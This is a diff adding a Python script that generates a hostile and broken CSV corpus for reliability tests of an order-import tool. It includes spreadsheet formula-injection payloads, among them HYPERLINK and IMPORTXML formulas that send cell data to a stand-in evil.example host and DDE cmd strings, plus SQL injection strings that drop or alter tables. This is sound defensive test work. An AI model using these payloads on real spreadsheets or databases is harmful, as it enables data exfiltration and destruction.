@@ -1,0 +1,145 @@
+"""Write the hostile and broken input corpus into a folder: ``python generate.py FOLDER``.
+
+Every file is generated (some are large, binary, sparse, or hold bytes an editor would
+"fix"), deterministically, for the items of examples/orders.jsonl (one partner taking every
+item, as tests/reliability/test_hostile_input.py sets it up). Dates are relative to
+``today`` so that the good rows stay inside the edit window. What each file must lead to is
+written down in EXPECTED.toml next to this script.
+"""
+
+from __future__ import annotations
+
+import datetime as dt
+import io
+import os
+import random
+import sys
+import zipfile
+from pathlib import Path
+
+HEADER = "order_id,item_id,shipped,shipped_date,carrier,tracking_number"
+UPS = "1Z5R89390357567127"
+# (order, item) of examples/orders.jsonl that are open.
+ITEMS = [
+    (1, 1001), (1, 1002), (2, 1003), (3, 1004), (3, 1005), (4, 1006), (5, 1007), (5, 1008),
+    (6, 1009), (7, 1010), (7, 1011), (8, 1012), (9, 1013), (9, 1014), (10, 1015), (11, 1016),
+    (11, 1017),
+]  # fmt: skip
+GIGABYTE = 1_000_000_000
+
+
+def _rows(today: str, count: int = 3) -> list[str]:
+    return [f"{order},{item},TRUE,{today},UPS,{UPS}" for order, item in ITEMS[:count]]
+
+
+def _text(lines: list[str], ending: str = "\r\n") -> bytes:
+    return (ending.join(lines) + ending).encode("utf-8")
+
+
+def corpus(today: dt.date) -> dict[str, bytes]:
+    """The small files, name → bytes (the sparse 1 GB file is made by ``generate``)."""
+    day = today.isoformat()
+    good = _rows(day)
+    shuffled = random.Random(20261123)
+    files: dict[str, bytes] = {}
+    files["empty.csv"] = b""
+    files["header_only.csv"] = _text([HEADER])
+    files["binary_garbage.csv"] = shuffled.randbytes(8192)
+    archive = io.BytesIO()
+    with zipfile.ZipFile(archive, "w") as zipped:
+        zipped.writestr("orders.csv", _text([HEADER, *good]))
+    files["zip_renamed.csv"] = archive.getvalue()
+    files["utf16_with_bom.csv"] = "\ufeff".encode("utf-16-le") + (
+        "\r\n".join([HEADER, *good]) + "\r\n"
+    ).encode("utf-16-le")
+    files["utf16_without_bom.csv"] = ("\r\n".join([HEADER, *good]) + "\r\n").encode("utf-16-le")
+    files["mixed_line_endings.csv"] = (
+        HEADER.encode() + b"\r\n" + good[0].encode() + b"\n" + good[1].encode() + b"\r"
+        + good[2].encode() + b"\r\n"
+    )  # fmt: skip
+    extra = ",".join(f"extra_{number}" for number in range(10_000 - 6))
+    filler = ",".join("x" for _ in range(10_000 - 6))
+    files["row_of_10000_columns.csv"] = _text(
+        [f"{HEADER},{extra}", *(f"{row},{filler}" for row in good)]
+    )
+    files["cell_of_1mb.csv"] = _text(
+        [f"{HEADER},note", f"{good[0]},{'y' * 1_000_000}", f"{good[1]},short"]
+    )
+    files["unbalanced_quotes.csv"] = _text(
+        [HEADER, good[0], f'1,1002,TRUE,{day},"UPS,{UPS}', good[2]]
+    )
+    files["nul_bytes.csv"] = _text([HEADER, good[0]]) + b"1,1002,TRUE,\x00,UPS,\x00\r\n"
+    formulas = [
+        "=1+1",
+        '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
+    ]
+    files["formulas_everywhere.csv"] = _text(
+        [HEADER, *(",".join(f'"{formula}"' for _ in range(6)) for formula in formulas)]
+    )
+    sql = [
+        "1; DROP TABLE items; --",
+        "' OR '1'='1",
+        "1001' ; UPDATE items SET status='shipped' --",
+        '"); DELETE FROM files; --',
+    ]
+    files["sql_everywhere.csv"] = _text(
+        [HEADER, *(",".join('"' + text.replace('"', '""') + '"' for _ in range(6)) for text in sql)]
+    )
+    confusables = [
+        "U\u03a1S",  # Greek capital Rho for P
+        "\u0423PS",  # Cyrillic U
+        "UPS\u200b",  # zero-width space
+        "D\u041dL",  # Cyrillic En for H
+        "\u0192edEx",  # f with hook
+        "USP\u0405",  # Cyrillic Dze for S
+    ]
+    files["confusable_carriers.csv"] = _text(
+        [HEADER]
+        + [
+            f"{order},{item},TRUE,{day},{carrier},{UPS}"
+            for (order, item), carrier in zip(ITEMS, confusables, strict=False)
+        ]
+    )
+    impossible = ["31/02/2026", "0000-00-00", "46348", "2026-02-31", "9999-12-31", "2026-13-01"]
+    files["impossible_dates.csv"] = _text(
+        [HEADER]
+        + [
+            f"{order},{item},TRUE,{date},UPS,{UPS}"
+            for (order, item), date in zip(ITEMS, impossible, strict=False)
+        ]
+    )
+    files["negative_quantities.csv"] = _text(
+        [f"{HEADER},quantity", *(f"{row},-{number + 1}" for number, row in enumerate(good))]
+    )
+    files["tracking_of_200_characters.csv"] = _text(
+        [HEADER, f"1,1001,TRUE,{day},UPS,1Z{'9' * 198}", f"1,1002,TRUE,{day},UPS,{'A' * 200}"]
+    )
+    return files
+
+
+def generate(folder: Path, today: dt.date | None = None) -> dict[str, Path]:
+    """Write every corpus file into ``folder``; return name → path. ``over_max_file_bytes.csv``
+    is a sparse 1 GB file (a CSV header, then a hole): it takes no disk space."""
+    today = today or dt.datetime.now(dt.UTC).date()
+    folder.mkdir(parents=True, exist_ok=True)
+    written = {}
+    for name, content in corpus(today).items():
+        path = folder / name
+        path.write_bytes(content)
+        written[name] = path
+    sparse = folder / "over_max_file_bytes.csv"
+    with sparse.open("wb") as handle:
+        handle.write(_text([HEADER, *_rows(today.isoformat())]))
+        handle.truncate(GIGABYTE)
+    written[sparse.name] = sparse
+    return written
+
+
+if __name__ == "__main__":
+    target = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(os.getcwd()) / "bad-corpus"
+    for path in generate(target).values():
+        print(path)
